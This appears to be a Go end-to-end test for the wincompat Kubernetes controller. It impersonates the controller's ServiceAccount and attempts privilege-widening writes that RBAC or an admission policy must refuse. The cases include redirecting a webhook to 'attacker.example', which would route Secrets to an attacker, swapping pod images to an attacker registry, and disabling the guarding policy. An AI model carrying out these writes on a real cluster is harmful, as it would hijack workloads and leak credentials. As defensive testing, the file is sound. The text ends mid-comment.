package security

// Issue 24, finding 8, and issue 40, finding 11: a stolen token widens nothing. RBAC lets wincompat's
// ServiceAccount create RuntimeClasses and Secrets of any name and rewrite its webhook configurations
// whole. The chart pins those writes with a ValidatingAdmissionPolicy
// (templates/validatingadmissionpolicy.yaml). The API server shows no admission control the writes of
// admission policies or bindings, so the chart installs the policies, their bindings and params itself
// and the account has no access to any of them. Here, on the real API server, the chart is applied as
// an installer would (engine hybrid, self-managed TLS), then, acting as the ServiceAccount
// (impersonation: the API server sees exactly that user and its groups), every widening is tried and
// must be refused, by RBAC or by the policy as stated; and every write wincompat itself makes must still
// succeed.

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	policyv1 "k8s.io/api/policy/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/reconcile"

	"github.com/wincompat/wincompat/patch"
	"github.com/wincompat/wincompat/policy"
	"github.com/wincompat/wincompat/policy/admissionpolicy"
	"github.com/wincompat/wincompat/test/controlplane"
	"github.com/wincompat/wincompat/webhook"
	"github.com/wincompat/wincompat/webhook/certs"
	"github.com/wincompat/wincompat/webhook/scheduling/runtimeclass"
	"github.com/wincompat/wincompat/webhook/scheduling/ungate"

	"github.com/wincompat/wincompat/test/e2e/e2eutil"
)

const (
	serviceAccountUser = "system:serviceaccount:" + e2eutil.OwnNamespace + ":wincompat"
	ownWritesPolicy    = "wincompat-own-writes"
	// What the API server says when the chart's ValidatingAdmissionPolicy refuses a write.
	deniedByOwnWrites = "ValidatingAdmissionPolicy '" + ownWritesPolicy + "' with binding '" + ownWritesPolicy + "' denied request: "
)

// asServiceAccount is a client that acts as the chart's ServiceAccount, as a stolen token would.
func asServiceAccount(t *testing.T, admin *rest.Config) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(admin)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: serviceAccountUser,
		Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + e2eutil.OwnNamespace, "system:authenticated"}}
	c, err := client.New(cfg, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// refusal says who must refuse a write and with what words.
type refusal struct {
	byRBAC bool   // RBAC forbids the verb; else the chart's ValidatingAdmissionPolicy denies the content
	says   string // part of the policy's message, or the RBAC verb and resource
}

func rbacRefuses(verbAndResource string) refusal { return refusal{byRBAC: true, says: verbAndResource} }

func policyRefuses(says string) refusal { return refusal{says: says} }

// checkRefused fails unless err is the refusal expected: 403 Forbidden from RBAC (the user cannot do
// that verb at all) or from the chart's policy (named, with its message).
func checkRefused(t *testing.T, what string, err error, want refusal) {
	t.Helper()
	switch {
	case err == nil:
		t.Errorf("%s: allowed; want it refused", what)
	case !apierrors.IsForbidden(err):
		t.Errorf("%s: refused, but not as forbidden: %v", what, err)
	case want.byRBAC && !strings.Contains(err.Error(), `User "`+serviceAccountUser+`" cannot `+want.says):
		t.Errorf("%s: want RBAC to refuse (cannot %s), got: %v", what, want.says, err)
	case !want.byRBAC && (!strings.Contains(err.Error(), deniedByOwnWrites) || !strings.Contains(err.Error(), want.says)):
		t.Errorf("%s: want the chart's policy to deny it saying %q, got: %v", what, want.says, err)
	default:
		t.Logf("%s: refused: %v", what, err)
	}
}

// TestStolenTokenWidensNothing: issue 24, finding 8; issue 40, finding 11.
func TestStolenTokenWidensNothing(t *testing.T) {
	ctx := context.Background()
	cp := controlplane.LaunchBare(t)
	e2eutil.RequireAdmissionPolicies(t, cp.Config)
	admin := cp.Client
	e2eutil.SetUpNamespace(ctx, t, admin, e2eutil.OwnNamespace, nil, nil)
	sa := asServiceAccount(t, cp.Config)

	objs := e2eutil.RenderChart(t, e2eutil.ValuesFile(t, "engine: hybrid\ntls: {mode: self-managed}\nimageResolver: {enabled: false}\nmisplacedPods: {remediate: {enabled: true}}\n"))
	var chartPolicyFile *policy.Policy
	for _, obj := range objs {
		if obj.GetKind() == "ConfigMap" && obj.GetName() == "wincompat-policy" {
			chartPolicyFile = e2eutil.ChartPolicy(t, obj)
		}
	}
	if chartPolicyFile == nil {
		t.Fatal("no policy ConfigMap rendered")
	}
	// What the chart installs for the policy (its own namespace excluded, its params in it).
	pol := *chartPolicyFile
	rendered := admissionpolicy.Render(&pol, admissionpolicy.Options{Version: "v0.0.0-e2e", ExcludedNamespaces: []string{e2eutil.OwnNamespace},
		ParamsName: "wincompat-admission-policy-params", ParamsNamespace: e2eutil.OwnNamespace})
	policies, bindings := rendered.Policies, rendered.Bindings
	rogue := func() *nodev1.RuntimeClass {
		rc := runtimeclass.Desired(&pol, nil)[0]
		rc.Name = "rogue"
		return &rc
	}

	// The chart's RBAC alone (its ValidatingAdmissionPolicy left out): the attack works, so the refusals
	// below are the policy's doing.
	var vap []*unstructured.Unstructured
	for _, obj := range objs {
		if strings.HasPrefix(obj.GetKind(), "ValidatingAdmissionPolicy") {
			vap = append(vap, obj)
			continue
		}
		if err := admin.Patch(ctx, obj, client.Apply, client.FieldOwner("chart-test"), client.ForceOwnership); err != nil {
			t.Fatalf("%s %s rejected by the API server: %v", obj.GetKind(), obj.GetName(), err)
		}
	}
	if len(vap) != 2 {
		t.Fatalf("%d ValidatingAdmissionPolicy objects rendered, want the policy and its binding", len(vap))
	}
	if err := sa.Create(ctx, rogue(), client.DryRunAll); err != nil {
		t.Fatalf("without the chart's ValidatingAdmissionPolicy, the ServiceAccount could not create a rogue RuntimeClass (dry run): %v; this test would prove nothing", err)
	}
	for _, obj := range vap {
		if err := admin.Patch(ctx, obj, client.Apply, client.FieldOwner("chart-test"), client.ForceOwnership); err != nil {
			t.Fatalf("%s %s rejected by the API server: %v", obj.GetKind(), obj.GetName(), err)
		}
	}
	var installed admissionregistrationv1.ValidatingAdmissionPolicy
	if err := admin.Get(ctx, client.ObjectKey{Name: ownWritesPolicy}, &installed); err != nil {
		t.Fatal(err)
	}
	// The API server loads a new policy asynchronously: wait until it denies (dry run, so nothing is
	// stored while it does not yet).
	var last error
	deadline := time.Now().Add(30 * time.Second)
	for last = sa.Create(ctx, rogue(), client.DryRunAll); last == nil || !strings.Contains(last.Error(), deniedByOwnWrites); last = sa.Create(ctx, rogue(), client.DryRunAll) {
		if time.Now().After(deadline) {
			_ = admin.Get(ctx, client.ObjectKey{Name: ownWritesPolicy}, &installed)
			t.Fatalf("the chart's ValidatingAdmissionPolicy not in force after 30s: a rogue RuntimeClass (dry run) got %v; policy status %+v", last, installed.Status)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if w := installed.Status.TypeChecking; w != nil && len(w.ExpressionWarnings) > 0 {
		t.Logf("type checking warnings: %+v", w.ExpressionWarnings)
	}

	// Everything wincompat writes, as it writes it, is still allowed.
	t.Run("wincompat's own writes", func(t *testing.T) {
		// The certificate issuer (self-managed TLS): creates its Secret and sets the caBundle of both
		// webhook configurations, then the same again after a CA rotation (a new bundle).
		cfg := certs.Config{Namespace: e2eutil.OwnNamespace, SecretName: "wincompat-tls", ServiceName: "wincompat", WebhookConfigName: e2eutil.WebhookConfigName}
		cfg.Defaults()
		issuer := &certs.Issuer{Config: cfg, Client: sa, Log: logr.Discard()}
		if err := issuer.Reconcile(ctx); err != nil {
			t.Fatalf("the issuer as the ServiceAccount: %v", err)
		}
		bundles := func() (m, v []byte) {
			var mwc admissionregistrationv1.MutatingWebhookConfiguration
			var vwc admissionregistrationv1.ValidatingWebhookConfiguration
			if err := admin.Get(ctx, client.ObjectKey{Name: e2eutil.WebhookConfigName}, &mwc); err != nil {
				t.Fatal(err)
			}
			if err := admin.Get(ctx, client.ObjectKey{Name: e2eutil.WebhookConfigName}, &vwc); err != nil {
				t.Fatal(err)
			}
			for _, w := range mwc.Webhooks {
				if string(w.ClientConfig.CABundle) != string(mwc.Webhooks[0].ClientConfig.CABundle) {
					t.Errorf("webhook %s has another caBundle than %s", w.Name, mwc.Webhooks[0].Name)
				}
			}
			return mwc.Webhooks[0].ClientConfig.CABundle, vwc.Webhooks[0].ClientConfig.CABundle
		}
		m1, v1 := bundles()
		if len(m1) == 0 || len(v1) == 0 {
			t.Fatalf("the issuer set no caBundle: %q %q", m1, v1)
		}
		var secret corev1.Secret
		if err := admin.Get(ctx, client.ObjectKey{Namespace: e2eutil.OwnNamespace, Name: "wincompat-tls"}, &secret); err != nil {
			t.Fatal(err)
		}
		// A CA rotation asked for: the new CA joins the bundle.
		metav1.SetMetaDataAnnotation(&secret.ObjectMeta, certs.AnnotationRotateCA, "e2e")
		if err := admin.Update(ctx, &secret); err != nil {
			t.Fatal(err)
		}
		if err := issuer.Reconcile(ctx); err != nil {
			t.Fatalf("the issuer as the ServiceAccount, after a CA change: %v", err)
		}
		if m2, _ := bundles(); string(m2) == string(m1) {
			t.Error("the caBundle did not change with the CA")
		}

		// The RuntimeClass reconciler: creates the catalog's classes, repairs one whose scheduling drifted,
		// replaces one with another handler (delete, create).
		rc := &runtimeclass.Reconciler{Client: sa, Policy: func() *policy.Policy { return &pol }, Log: logr.Discard()}
		reconcileOnce := func() {
			t.Helper()
			if _, err := rc.Reconcile(ctx, reconcile.Request{}); err != nil {
				t.Errorf("RuntimeClass reconciler as the ServiceAccount: %v", err)
			}
		}
		reconcileOnce()
		var drifted nodev1.RuntimeClass
		if err := admin.Get(ctx, client.ObjectKey{Name: "windows-2022"}, &drifted); err != nil {
			t.Fatal(err)
		}
		drifted.Scheduling = nil
		if err := admin.Update(ctx, &drifted); err != nil {
			t.Fatal(err)
		}
		var other nodev1.RuntimeClass
		if err := admin.Get(ctx, client.ObjectKey{Name: "windows-2025"}, &other); err != nil {
			t.Fatal(err)
		}
		if err := admin.Delete(ctx, &other); err != nil {
			t.Fatal(err)
		}
		e2eutil.Create(ctx, t, admin, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "windows-2025", Labels: other.Labels}, Handler: "runhcs-wcow-hypervisor"})
		reconcileOnce()
		want := runtimeclass.Desired(&pol, nil)
		for _, w := range want {
			var got nodev1.RuntimeClass
			if err := admin.Get(ctx, client.ObjectKey{Name: w.Name}, &got); err != nil {
				t.Errorf("RuntimeClass %s: %v", w.Name, err)
				continue
			}
			if got.Handler != w.Handler || got.Scheduling == nil || len(got.Scheduling.NodeSelector) != len(w.Scheduling.NodeSelector) {
				t.Errorf("RuntimeClass %s not kept: handler %s, scheduling %+v", w.Name, got.Handler, got.Scheduling)
			}
		}
	})

	mwcUpdate := func(change func(*admissionregistrationv1.MutatingWebhookConfiguration)) func() error {
		return func() error {
			var wc admissionregistrationv1.MutatingWebhookConfiguration
			if err := sa.Get(ctx, client.ObjectKey{Name: e2eutil.WebhookConfigName}, &wc); err != nil {
				return err
			}
			change(&wc)
			return sa.Update(ctx, &wc)
		}
	}
	vwcUpdate := func(change func(*admissionregistrationv1.ValidatingWebhookConfiguration)) func() error {
		return func() error {
			var wc admissionregistrationv1.ValidatingWebhookConfiguration
			if err := sa.Get(ctx, client.ObjectKey{Name: e2eutil.WebhookConfigName}, &wc); err != nil {
				return err
			}
			change(&wc)
			return sa.Update(ctx, &wc)
		}
	}
	rcUpdate := func(name string, change func(*nodev1.RuntimeClass)) func() error {
		return func() error {
			var rc nodev1.RuntimeClass
			if err := sa.Get(ctx, client.ObjectKey{Name: name}, &rc); err != nil {
				return err
			}
			change(&rc)
			return sa.Update(ctx, &rc)
		}
	}
	scope := admissionregistrationv1.NamespacedScope
	webhookSecretsRule := admissionregistrationv1.RuleWithOperations{
		Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
		Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}, Scope: &scope},
	}
	const (
		webhookMsg = "may only update the caBundle of the webhooks of its own webhook configurations"
		rcMsg      = "may only create the RuntimeClasses windows-2019, windows-2022, windows-2025"
		secretMsg  = "may only create or update the Secret wincompat-tls"
		notMine    = "not-wincompats"
	)
	// A RuntimeClass of a catalog name that is not wincompat's (no managed-by label): the reconciler
	// leaves it alone, and so must a stolen token.
	e2eutil.Create(ctx, t, admin, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "windows-2019-admin"}, Handler: "runhcs-wcow-process"})

	for _, tc := range []struct {
		name  string
		write func() error
		want  refusal
	}{
		// Admission policies and their params: none (issue 40, finding 11). No admission control sees these
		// writes, so RBAC must refuse them: a policy it could rewrite would rewrite every pod its binding
		// selects (image, command, volumes).
		{"a new admission policy", func() error {
			p := policies[0].DeepCopy()
			p.ResourceVersion, p.Name = "", "rogue"
			return sa.Create(ctx, p)
		}, rbacRefuses(`create resource "mutatingadmissionpolicies"`)},
		{"wincompat-pods rewritten by server-side apply", func() error {
			p := policies[0].DeepCopy()
			p.ResourceVersion = ""
			p.Spec.Mutations[0].JSONPatch.Expression = `[JSONPatch{op: "replace", path: "/spec/containers/0/image", value: "attacker.example/app"}]`
			//nolint:staticcheck // server-side apply of a typed object, as the policy keeper used to send it.
			return sa.Patch(ctx, p, client.Apply, client.FieldOwner("wincompat"), client.ForceOwnership)
		}, rbacRefuses(`patch resource "mutatingadmissionpolicies"`)},
		{"wincompat-pods rewritten by a merge patch", func() error {
			return sa.Patch(ctx, &admissionregistrationv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "wincompat-pods"}},
				client.RawPatch(types.MergePatchType, []byte(`{"spec":{"variables":null}}`)))
		}, rbacRefuses(`patch resource "mutatingadmissionpolicies"`)},
		{"reading wincompat-pods", func() error {
			return sa.Get(ctx, client.ObjectKey{Name: "wincompat-pods"}, &admissionregistrationv1.MutatingAdmissionPolicy{})
		}, rbacRefuses(`get resource "mutatingadmissionpolicies"`)},
		{"the admission policies' params", func() error {
			return sa.Patch(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: e2eutil.OwnNamespace, Name: "wincompat-admission-policy-params"}},
				client.RawPatch(types.MergePatchType, []byte(`{"data":{"nonRootUserName":"ContainerAdministrator"}}`)))
		}, rbacRefuses(`patch resource "configmaps"`)},

		// Bindings: none, not even its policies' own (the chart's).
		{"a binding of a rogue policy", func() error {
			b := bindings[0].DeepCopy()
			b.Name, b.Spec.PolicyName = "rogue", "rogue"
			return sa.Create(ctx, b)
		}, rbacRefuses(`create resource "mutatingadmissionpolicybindings"`)},
		{"its policy's binding by server-side apply", func() error {
			return sa.Patch(ctx, bindings[0].DeepCopy(), client.Apply, client.FieldOwner("wincompat"), client.ForceOwnership)
		}, rbacRefuses(`patch resource "mutatingadmissionpolicybindings"`)},
		{"its policy's binding to every namespace", func() error {
			return sa.Patch(ctx, &admissionregistrationv1.MutatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: "wincompat-pods"}},
				client.RawPatch(types.MergePatchType, []byte(`{"spec":{"matchResources":null}}`)))
		}, rbacRefuses(`patch resource "mutatingadmissionpolicybindings"`)},
		{"deleting its policy's binding", func() error { return sa.Delete(ctx, bindings[0].DeepCopy()) }, rbacRefuses(`delete resource "mutatingadmissionpolicybindings"`)},
		{"deleting its policy", func() error { return sa.Delete(ctx, policies[0].DeepCopy()) }, rbacRefuses(`delete resource "mutatingadmissionpolicies"`)},

		// Webhook configurations: RBAC lets it update its own two with any content.
		{"its webhook receiving Secrets", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[0].Rules = append(wc.Webhooks[0].Rules, webhookSecretsRule)
		}), policyRefuses(webhookMsg)},
		{"its webhook sent to another service", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[0].ClientConfig.Service.Namespace = "default"
		}), policyRefuses(webhookMsg)},
		{"its webhook sent to a URL", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[0].ClientConfig.Service, wc.Webhooks[0].ClientConfig.URL = nil, new("https://attacker.example:443/")
		}), policyRefuses(webhookMsg)},
		{"its webhook in every namespace", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[0].NamespaceSelector = &metav1.LabelSelector{}
		}), policyRefuses(webhookMsg)},
		{"its webhook without matchConditions", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[1].MatchConditions = nil
		}), policyRefuses(webhookMsg)},
		{"its webhook failing open", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			ignore := admissionregistrationv1.Ignore
			if *wc.Webhooks[2].FailurePolicy == ignore {
				ignore = admissionregistrationv1.Fail
			}
			wc.Webhooks[2].FailurePolicy = &ignore
		}), policyRefuses(webhookMsg)},
		{"a webhook added", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			w := *wc.Webhooks[0].DeepCopy()
			w.Name = "secrets.attacker.example"
			w.Rules = []admissionregistrationv1.RuleWithOperations{webhookSecretsRule}
			wc.Webhooks = append(wc.Webhooks, w)
		}), policyRefuses(webhookMsg)},
		{"its webhooks reordered", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			wc.Webhooks[0], wc.Webhooks[1] = wc.Webhooks[1], wc.Webhooks[0]
		}), policyRefuses(webhookMsg)},
		{"an annotation for cert-manager's injector", mwcUpdate(func(wc *admissionregistrationv1.MutatingWebhookConfiguration) {
			metav1.SetMetaDataAnnotation(&wc.ObjectMeta, "cert-manager.io/inject-ca-from", "default/attacker")
		}), policyRefuses(webhookMsg)},
		{"the policy check on every ConfigMap", vwcUpdate(func(wc *admissionregistrationv1.ValidatingWebhookConfiguration) {
			wc.Webhooks[0].MatchConditions = nil
			wc.Webhooks[0].NamespaceSelector = &metav1.LabelSelector{}
		}), policyRefuses(webhookMsg)},
		{"the policy check receiving Secrets", vwcUpdate(func(wc *admissionregistrationv1.ValidatingWebhookConfiguration) {
			wc.Webhooks[0].Rules[0].Resources = []string{"configmaps", "secrets"}
		}), policyRefuses(webhookMsg)},
		{"a webhook configuration of another name", func() error {
			return sa.Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "rogue"}})
		}, rbacRefuses(`create resource "mutatingwebhookconfigurations"`)},
		{"deleting its webhook configuration", func() error {
			return sa.Delete(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: e2eutil.WebhookConfigName}})
		}, rbacRefuses(`delete resource "mutatingwebhookconfigurations"`)},

		// RuntimeClasses: RBAC lets it create any name, and update and delete the catalog's names.
		{"a RuntimeClass of another name", func() error {
			return sa.Create(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "rogue", Labels: map[string]string{runtimeclass.ManagedByLabel: runtimeclass.ManagedByValue}},
				Handler: "runhcs-wcow-process", Scheduling: runtimeclass.Desired(&pol, nil)[0].Scheduling})
		}, policyRefuses(rcMsg)},
		{"its RuntimeClass tolerating every taint", rcUpdate("windows-2022", func(rc *nodev1.RuntimeClass) {
			rc.Scheduling.Tolerations = append(rc.Scheduling.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
		}), policyRefuses(rcMsg)},
		{"its RuntimeClass scheduling onto Linux nodes", rcUpdate("windows-2022", func(rc *nodev1.RuntimeClass) {
			rc.Scheduling.NodeSelector = map[string]string{corev1.LabelOSStable: "linux"}
		}), policyRefuses(rcMsg)},
		{"its RuntimeClass scheduling onto any node", rcUpdate("windows-2022", func(rc *nodev1.RuntimeClass) {
			rc.Scheduling = nil
		}), policyRefuses(rcMsg)},
		{"its RuntimeClass for every Windows build", rcUpdate("windows-2022", func(rc *nodev1.RuntimeClass) {
			delete(rc.Scheduling.NodeSelector, corev1.LabelWindowsBuild)
		}), policyRefuses(rcMsg)},
		{"its RuntimeClass with an overhead", rcUpdate("windows-2022", func(rc *nodev1.RuntimeClass) {
			rc.Overhead = &nodev1.Overhead{PodFixed: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("1Gi")}}
		}), policyRefuses(rcMsg)},
		{"its RuntimeClass replaced with another handler", func() error {
			if err := sa.Delete(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "windows-2025"}}); err != nil {
				return fmt.Errorf("deleting its own class first: %w", err)
			}
			want := runtimeclass.Desired(&pol, nil)[2]
			want.Handler = "runc"
			return sa.Create(ctx, &want)
		}, policyRefuses(rcMsg)},
		{"a catalog RuntimeClass that is not wincompat's, updated", func() error {
			var rc nodev1.RuntimeClass
			if err := admin.Get(ctx, client.ObjectKey{Name: "windows-2019"}, &rc); err != nil {
				return err
			}
			// Made an administrator's: the managed-by label removed, as a class wincompat found.
			rc.Labels = map[string]string{"owner": notMine}
			if err := admin.Update(ctx, &rc); err != nil {
				return err
			}
			rc.Labels = map[string]string{runtimeclass.ManagedByLabel: runtimeclass.ManagedByValue}
			rc.Scheduling = runtimeclass.Desired(&pol, nil)[0].Scheduling
			return sa.Update(ctx, &rc)
		}, policyRefuses(rcMsg)},
		{"a catalog RuntimeClass that is not wincompat's, deleted", func() error {
			return sa.Delete(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "windows-2019"}})
		}, policyRefuses(rcMsg)},
		{"a RuntimeClass outside the catalog, deleted", func() error {
			return sa.Delete(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "windows-2019-admin"}})
		}, rbacRefuses(`delete resource "runtimeclasses"`)},

		// Secrets: the Role lets it create any name in its namespace.
		{"a Secret of another name", func() error {
			return sa.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: e2eutil.OwnNamespace, Name: "rogue"}})
		}, policyRefuses(secretMsg)},
		{"a Secret by generateName", func() error {
			return sa.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: e2eutil.OwnNamespace, GenerateName: "wincompat-tls"}})
		}, policyRefuses(secretMsg)},
		{"a Secret in another namespace", func() error {
			return sa.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "wincompat-tls"}})
		}, rbacRefuses(`create resource "secrets"`)},
		{"reading another Secret", func() error {
			return sa.Get(ctx, client.ObjectKey{Namespace: e2eutil.OwnNamespace, Name: "rogue"}, &corev1.Secret{})
		}, rbacRefuses(`get resource "secrets"`)},

		// Its own pin: no RBAC on ValidatingAdmissionPolicies or their bindings.
		{"unbinding the chart's policy", func() error {
			return sa.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: ownWritesPolicy}})
		}, rbacRefuses(`delete resource "validatingadmissionpolicybindings"`)},
		{"emptying the chart's policy", func() error {
			return sa.Patch(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: ownWritesPolicy}},
				client.RawPatch(types.MergePatchType, []byte(`{"spec":{"validations":[{"expression":"true"}]}}`)))
		}, rbacRefuses(`patch resource "validatingadmissionpolicies"`)},
	} {
		checkRefused(t, tc.name, tc.write(), tc.want)
	}

	// misplacedPods.remediate: RBAC lets it evict any pod and delete none; the policy pins evictions to
	// opted-in namespaces and to one UID, and the API server keeps the pod's PodDisruptionBudget. An
	// eviction request shows admission no pod, so which pods is the watcher's choice (misplaced.RemediationBlock).
	t.Run("pod evictions", func(t *testing.T) {
		const opted, plain = "remediated", "not-remediated"
		e2eutil.SetUpNamespace(ctx, t, admin, opted, map[string]string{policy.LabelEnabled: "true"}, nil)
		e2eutil.SetUpNamespace(ctx, t, admin, plain, nil, nil)
		controller := func(kind string) []metav1.OwnerReference {
			return []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: kind, Name: "web", UID: "0000-web", Controller: new(true)}}
		}
		pod := func(ns, name string, owners []metav1.OwnerReference, source string, windows bool) *corev1.Pod {
			p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, OwnerReferences: owners, Labels: map[string]string{"app": name}},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "mcr.microsoft.com/windows/servercore:ltsc2019"}}}}
			if windows {
				p.Spec.OS = &corev1.PodOS{Name: corev1.Windows}
				p.Annotations = map[string]string{policy.AnnotationVersion: "e2e"}
				if source != "" {
					p.Annotations[policy.AnnotationBuildSource] = source
					p.Annotations[policy.AnnotationBuild] = e2eutil.Build2019
				}
			}
			e2eutil.Create(ctx, t, admin, p)
			return p
		}
		ready := func(p *corev1.Pod) *corev1.Pod {
			p.Status.Phase = corev1.PodRunning
			p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionTrue}}
			if err := admin.Status().Update(ctx, p); err != nil {
				t.Fatal(err)
			}
			return p
		}
		// Remediation asks the pod's PodDisruptionBudget by an eviction in dry run, then deletes the pod:
		// an eviction shows admission the Eviction alone, so a real one could not be judged by the pod.
		evict := func(p *corev1.Pod, opts ...client.SubResourceCreateOption) error {
			uid := p.UID
			return sa.SubResource("eviction").Create(ctx, p, &policyv1.Eviction{DeleteOptions: &metav1.DeleteOptions{Preconditions: &metav1.Preconditions{UID: &uid}}}, opts...)
		}
		eligible := pod(opted, "eligible", controller("ReplicaSet"), policy.SourceImage, true)
		if err := evict(eligible, client.DryRunAll); err != nil {
			t.Errorf("remediation's eviction in dry run of an eligible pod: %v", err)
		}
		if err := sa.Delete(ctx, eligible, client.Preconditions{UID: &eligible.UID, ResourceVersion: &eligible.ResourceVersion}); err != nil {
			t.Errorf("remediation's delete of an eligible pod: %v", err)
		}
		const evictMsg = "may only evict in dry run"
		checkRefused(t, "evicting an eligible pod for real", evict(pod(opted, "eligible-2", controller("ReplicaSet"), policy.SourceImage, true)), policyRefuses(evictMsg))
		checkRefused(t, "evicting a Ready pod for real", evict(ready(pod(opted, "ready-evicted", controller("ReplicaSet"), policy.SourceImage, true))), policyRefuses(evictMsg))
		checkRefused(t, "evicting a pod in a namespace not opted in", evict(pod(plain, "elsewhere", controller("ReplicaSet"), policy.SourceImage, true)), policyRefuses(evictMsg))

		// The pod's PodDisruptionBudget answers the dry run: with no disruption allowed, its Ready pod
		// stays and a pod that is not Ready may go (the budget is healthy without it). No disruption
		// controller runs here: the budget's status is written as it would write it.
		guarded := func(name string) *corev1.Pod {
			p := pod(opted, name, controller("ReplicaSet"), policy.SourceImage, true)
			one := intstr.FromInt32(1)
			pdb := &policyv1.PodDisruptionBudget{ObjectMeta: metav1.ObjectMeta{Namespace: opted, Name: name},
				Spec: policyv1.PodDisruptionBudgetSpec{MinAvailable: &one, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}}}}
			e2eutil.Create(ctx, t, admin, pdb)
			pdb.Status = policyv1.PodDisruptionBudgetStatus{ObservedGeneration: pdb.Generation, DisruptionsAllowed: 0, CurrentHealthy: 1, DesiredHealthy: 1, ExpectedPods: 2}
			if err := admin.Status().Update(ctx, pdb); err != nil {
				t.Fatal(err)
			}
			return p
		}
		if err := evict(ready(guarded("guarded-ready")), client.DryRunAll); !apierrors.IsTooManyRequests(err) {
			t.Errorf("evicting in dry run a Ready pod its PodDisruptionBudget protects: %v, want 429 Too Many Requests", err)
		}
		if err := evict(guarded("guarded-failing"), client.DryRunAll); err != nil {
			t.Errorf("evicting in dry run a pod that is not Ready under a healthy PodDisruptionBudget: %v", err)
		}

		// The delete is judged by the pod: only what remediation would pick.
		undecided := pod(opted, "undecided", controller("ReplicaSet"), "", true)
		if err := sa.Delete(ctx, undecided); err != nil {
			t.Errorf("deleting a pod wincompat chose no build for: %v", err)
		}
		const podMsg = "may only delete a Windows pod it admitted"
		for _, tc := range []struct {
			name string
			pod  *corev1.Pod
		}{
			{"a Ready pod", ready(pod(opted, "ready", controller("ReplicaSet"), policy.SourceImage, true))},
			{"a Job's pod", pod(opted, "job", controller("Job"), policy.SourceImage, true)},
			{"a Linux pod", pod(opted, "linux", controller("ReplicaSet"), "", false)},
			{"a bare pod", pod(opted, "bare", nil, policy.SourceImage, true)},
			{"a DaemonSet's pod", pod(opted, "daemon", controller("DaemonSet"), policy.SourceImage, true)},
			{"a pod whose nodeSelector chose the build", pod(opted, "pinned", controller("ReplicaSet"), policy.SourceNodeSelector, true)},
			{"a pod whose annotation asked for the build", pod(opted, "asked", controller("ReplicaSet"), policy.SourceAnnotation, true)},
			{"a pod in a namespace not opted in", pod(plain, "elsewhere-2", controller("ReplicaSet"), policy.SourceImage, true)},
		} {
			checkRefused(t, "deleting "+tc.name, sa.Delete(ctx, tc.pod), policyRefuses(podMsg))
		}
		undecided2 := pod(opted, "undecided-2", controller("ReplicaSet"), "", true)
		checkRefused(t, "updating a pod", sa.Update(ctx, undecided2), rbacRefuses(`update resource "pods"`))
		checkRefused(t, "creating a pod", sa.Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: opted, Name: "new"},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "registry.k8s.io/pause:3.10"}}}}), rbacRefuses(`create resource "pods"`))
	})

	// Gated placement: RBAC lets the ServiceAccount patch any pod, which Kubernetes would let change a
